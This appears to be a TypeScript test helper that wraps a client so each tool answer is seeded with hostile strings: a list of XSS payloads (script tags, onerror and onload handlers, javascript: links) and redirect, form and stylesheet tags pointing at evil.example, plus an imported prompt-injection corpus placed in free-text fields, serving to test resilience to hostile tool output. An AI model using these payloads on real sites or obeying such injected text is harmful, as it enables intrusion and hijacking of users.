import { corpus, type Payload } from '../reliability/injection-corpus.ts';
import { at } from '../support/academy.ts';
import type { Answered, EraClient } from '../support/eras.ts';

export const mark = 'Zq7mark';
/** Texts that only a browser would obey. */
export const ofBrowsers: Payload[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><style>*{display:none}</style>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">open</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example"><input name=x></form>',
  "'-alert(1)-'",
  '" style="position:fixed;inset:0" onfocus="alert(1)" autofocus="',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<template><slot name=x></template>',
].map((text) => ({ name: text, text: (word: string) => `${text} ${word}` }));

const texts = [...ofBrowsers, ...corpus].map(({ text }) => text(mark));

/** Fields whose values people choose. */
const free = new Set([
  'name',
  'title',
  'label',
  'via',
  'how',
  'note',
  'email',
  'country',
  'why',
  'next',
  'location',
  'key',
]);
const freeLists = new Set(['warnings', 'tree', 'products', 'granted_to', 'changed_meanwhile']);

/** The answer with one of the texts in every such field, a different one in each row; each call goes on with the next ones. */
function hostile() {
  const used = new Map<string, number>();
  const next = (key: string) => {
    const count = used.get(key) ?? 0;
    used.set(key, count + 1);
    return at(texts, count % texts.length);
  };
  function changed(value: unknown, key = ''): unknown {
    if (typeof value === 'string') return free.has(key) ? next(key) : value;
    if (Array.isArray(value)) return value.map((one) => (freeLists.has(key) ? next(key) : changed(one, key)));
    if (typeof value !== 'object' || value === null) return value;
    const isMap = key === 'titles';
    return Object.fromEntries(
      Object.entries(value).map(([name, one]) => [name, isMap ? next(key) : changed(one, name)]),
    );
  }
  return (result: Answered): Answered => ({
    ...result,
    content: result.content.map((part) => ({
      ...part,
      text: `${part.text?.split('\n')[0]}\n${next('text')}\n${part.text}`,
    })),
    ...(result.structuredContent === undefined
      ? {}
      : { structuredContent: changed(result.structuredContent) as Record<string, unknown> }),
  });
}

/** A server whose answers are full of such texts. */
export function hostileClient(client: EraClient): EraClient {
  const change = hostile();
  return { ...client, call: async (name, args) => change(await client.call(name, args)) };
}
